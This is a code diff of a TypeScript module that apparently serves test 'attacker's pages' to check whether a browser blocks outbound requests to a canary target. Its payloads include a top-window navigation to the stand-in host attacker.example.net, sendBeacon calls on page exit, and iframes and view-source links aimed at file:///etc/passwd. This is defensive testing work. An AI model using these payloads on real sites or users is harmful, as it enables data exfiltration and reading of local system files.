@@ -1,20 +1,6 @@
 /** The attacker's pages. Each gets the address that it tries to reach. It is served at `/{canary}/{name}`. */
-
-interface AttackResponse {
-  status?: number;
-  headers?: Record<string, string>;
-  body?: string;
-}
-
-export type Attack = (target: string) => AttackResponse;
-
-function html(body: string): AttackResponse {
-  return { body: `<!doctype html><title>An attack</title><body><p>Nothing to see.</p>${body}` };
-}
-
-function script(source: string): AttackResponse {
-  return html(`<script>${source}</script>`);
-}
+import { type Attack, type AttackResponse, html, script } from "./attack-page.ts";
+import { CLICKED, clicked, WINDOW_ATTACKS, windows } from "./windows.ts";
 
 /** Delays the page's load until the attack calls `done`, because a load does not wait for every request. */
 function untilDone(source: string): AttackResponse {
@@ -60,6 +46,12 @@ export const INNER_PAGES: Record<string, (target: string) => string> = {
   "/fetch": (target) => `<script>fetch("${target}", { mode: "no-cors" })</script>`,
   "/socket": (target) => `<script>new WebSocket("${target}")</script>`,
   "/leaves": (target) => `<script>location = "${target}"</script>`,
+  "/windows": (target) => windows(target).body ?? "",
+  "/back": () => "<script>onload = () => setTimeout(() => history.back())</script>",
+  "/leaves-top": (target) =>
+    `<script>top.location = "http://attacker.example.net" + ${JSON.stringify(target)}</script>`,
+  "/leaving-beacon": (target) =>
+    `<script>addEventListener("pagehide", () => navigator.sendBeacon("${target}", "x"))</script>`,
   "/worker": (target) => worker(fetchThenPost(target)).body ?? "",
 };
 
@@ -170,9 +162,6 @@ export const HIDDEN_ATTACKS = {
   "a pop-up": (target) => script(`open("${target}")`),
   "a link to a new tab": (target) =>
     html(`<a target="_blank" href="${target}"></a><script>document.links[0].click()</script>`),
-  "a click with Ctrl": (target) =>
-    html(`<a href="${target}"></a>
-      <script>document.links[0].dispatchEvent(new MouseEvent("click", { ctrlKey: true }))</script>`),
   "a form in a new tab": (target) =>
     html(
       `<form method="post" target="_blank" action="${target}"></form><script>document.forms[0].submit()</script>`,
@@ -197,6 +186,22 @@ export const HIDDEN_ATTACKS = {
       tab.fetch("${target}", { mode: "no-cors" });
       tab.document.write('<img src="${target}">');
       new tab.WebSocket("${socket(target)}")`),
+  "a preconnect": (target) => html(`<link rel="preconnect" href="${target}">`),
+  "a beacon on leaving": (target) =>
+    script(`addEventListener("pagehide", () => navigator.sendBeacon("${target}", "x"))`),
+  "a beacon of a frame that is removed": (target) =>
+    html(`<iframe src="http://other.example.org/leaving-beacon?of=${encodeURIComponent(target)}"></iframe>
+      <script>onload = () => document.querySelector("iframe").remove()</script>`),
+  "a local file": () => html(`<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname">`),
+  "a page of the browser": () =>
+    script(`open("chrome://version"); location = "view-source:file:///etc/passwd"`),
+} satisfies Record<string, Attack>;
+
+/**
+ * Make the browser load further pages ahead. They must reach nothing. They try a private address: interception does not see these
+ * requests, so they do reach a public one.
+ */
+export const SPECULATION_ATTACKS = {
   "speculation rules": (target) => html(speculationRules(target)),
   "speculation rules in a declarative shadow root": (target) =>
     html(`<div><template shadowrootmode="open">${speculationRules(target)}</template></div>`),
@@ -218,18 +223,16 @@ export const HIDDEN_ATTACKS = {
     headers: { "speculation-rules": `"/rules.json?to=${encodeURIComponent(target)}"` },
     ...html(""),
   }),
-  "a preconnect": (target) => html(`<link rel="preconnect" href="${target}">`),
-  "a beacon on leaving": (target) =>
-    script(`addEventListener("pagehide", () => navigator.sendBeacon("${target}", "x"))`),
-  "a local file": () => html(`<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname">`),
-  "a page of the browser": () =>
-    script(`open("chrome://version"); location = "view-source:file:///etc/passwd"`),
 } satisfies Record<string, Attack>;
 
-export const ATTACKS: Record<string, Attack> = {
+/** The pages of all attacks. */
+export const PAGES: Record<string, Attack> = {
   ...DOCUMENT_ATTACKS,
   ...RESOURCE_ATTACKS,
   ...HIDDEN_ATTACKS,
+  ...SPECULATION_ATTACKS,
+  ...WINDOW_ATTACKS,
+  [CLICKED]: clicked,
 };
 
 export const REDIRECTS = ["a redirect by 301", "a redirect by 302", "a redirect by 307", "a redirect by 308"];
